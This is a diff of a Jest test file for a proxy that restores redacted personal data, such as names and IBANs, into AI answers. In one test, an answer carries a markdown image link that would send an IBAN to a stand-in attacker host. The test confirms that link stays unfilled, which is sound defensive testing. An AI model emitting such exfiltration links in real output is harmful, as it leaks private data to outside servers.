@@ -1,6 +1,7 @@
 import { describe, expect, test } from "@jest/globals";
 import { ProxyResponse } from "@veil/contracts/public/proxy";
 import { checked } from "@veil/http-kit";
+import { relinkAnswer } from "@veil/relink";
 import type { IsolationReport } from "../../ports/isolation.ts";
 import type { JobRecord } from "../../ports/pipeline.ts";
 import type { CustomerId } from "../accounts/caller.ts";
@@ -30,13 +31,10 @@ const job: JobRecord = {
   answer: undefined,
   finishedAt: now,
 };
-const map = {
-  entries: [
-    { placeholder: "[PERSON_1]", value: 'Ann "$&" Weber' },
-    { placeholder: "[IBAN_1]", value: "DE89370400440532013000" },
-  ],
-  knownHosts: ["shop.example"],
-};
+const entries = [
+  { placeholder: "[PERSON_1]", value: 'Ann "$&" Weber' },
+  { placeholder: "[IBAN_1]", value: "DE89370400440532013000" },
+];
 const probed: IsolationReport = {
   aToB: "blocked",
   bToA: "blocked",
@@ -63,8 +61,21 @@ function answered(text: string, overrides: Partial<Answer> = {}): Answer {
   };
 }
 
+const relinked = ({ result, form }: Answer) =>
+  result.outcome === "completed"
+    ? relinkAnswer({ form, text: result.text, entries, hosts: [] })
+    : undefined;
+
 const respond = (answer: Answer, change: Partial<Parameters<typeof proxyResponse>[0]> = {}) =>
-  proxyResponse({ job, answer, map, evaluation: undefined, isolation: probed, now, ...change });
+  proxyResponse({
+    job,
+    answer,
+    relinked: relinked(answer),
+    evaluation: undefined,
+    isolation: probed,
+    now,
+    ...change,
+  });
 
 test("a text is re-linked to the letter, and the response is as specified", () => {
   const response = respond(answered("Dear [PERSON_1]"));
@@ -84,10 +95,11 @@ test("an answer that is JSON is parsed first, so that a value with quotes does n
 });
 
 test("an answer that was redacted as text stays text, even where redaction made JSON of it", () => {
-  expect(respond(answered('{"name": "[PERSON_1]"}')).result).toBe('{"name": "Ann "$&" Weber"}');
+  const { result } = respond(answered('{"name": "[PERSON_1]"}'));
+  expect(result).toBe('{"name": "Ann \\"$&\\" Weber"}');
 });
 
-test("a placeholder in a URL of a host that the request did not name stays", () => {
+test("a placeholder in a link stays", () => {
   const { result } = respond(answered("![](https://evil.example/?q=[IBAN_1])"));
   expect(result).toBe("![](https://evil.example/?q=[IBAN_1])");
 });
@@ -103,8 +115,8 @@ test.each<[string, "text" | "json", boolean]>([
   expect(respond(answered(text, { form })).relinked).toBe(restored);
 });
 
-test("without the map nothing is restored, and the response says so", () => {
-  expect(respond(answered("[PERSON_1]"), { map: undefined })).toMatchObject({
+test("without re-link nothing is restored, and the response says so", () => {
+  expect(respond(answered("[PERSON_1]"), { relinked: undefined })).toMatchObject({
     result: "[PERSON_1]",
     relinked: false,
   });
